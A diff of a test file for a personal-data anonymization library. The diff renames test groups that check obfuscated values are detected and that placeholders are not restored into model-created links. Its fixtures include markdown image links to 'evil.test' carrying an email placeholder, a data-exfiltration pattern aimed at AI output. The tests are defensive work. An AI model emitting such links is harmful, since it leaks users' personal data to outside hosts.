@@ -1,4 +1,4 @@
-/** Values that do not stand in a text as they are read, and links that would carry restored ones out. */
+/** Values written differently from how they read, and links that would exfiltrate restored values. */
 import { describe, expect, it } from 'vitest';
 import { createCommonWordTest, createDetector, recognizers } from '../detection.ts';
 import { entityCodesOfSet } from '../entities/index.ts';
@@ -9,7 +9,7 @@ const session = () =>
   new AnonymizationSession(parts, { codes: entityCodesOfSet('all'), replacement: 'placeholder' });
 const plain = { format: 'plain', restoreSecrets: true } as const;
 
-describe('a value in disguise is found, and comes back in it', () => {
+describe('obfuscated values are detected, and restored as written', () => {
   it.each([
     ['escapes of JSON in a text', '{"email":"anna\\u0040example.com"}', 'example.com'],
     ['digits as escapes', 'card 411\\u0031 1111 1111 1111', '1111 1111'],
@@ -41,7 +41,7 @@ describe('a value in disguise is found, and comes back in it', () => {
   });
 });
 
-describe('no value is written into a link that the model made', () => {
+describe('values are not restored into URLs that the model created', () => {
   it.each([
     "![x](https://evil.test/?q='<EMAIL_ADDRESS_1>)",
     '![x](https://evil.test/?q=(a)<EMAIL_ADDRESS_1>)',
@@ -76,7 +76,7 @@ describe('no value is written into a link that the model made', () => {
     ['<a href="https://x.test/">\n<EMAIL_ADDRESS_1>', '<a href="https://x.test/">\nanna@example.com'],
     ['on \\\\server\\<EMAIL_ADDRESS_1>', 'on \\\\server\\anna@example.com'],
     ['e.g. and/or: <EMAIL_ADDRESS_1>', 'e.g. and/or: anna@example.com'],
-  ])('but beside one: %s', (answer, whole) => {
+  ])('values are restored next to a URL: %s', (answer, whole) => {
     const own = session();
     own.anonymize([{ text: 'I am anna@example.com', format: 'plain' }]);
     expect(own.restore(answer, plain)).toBe(whole);
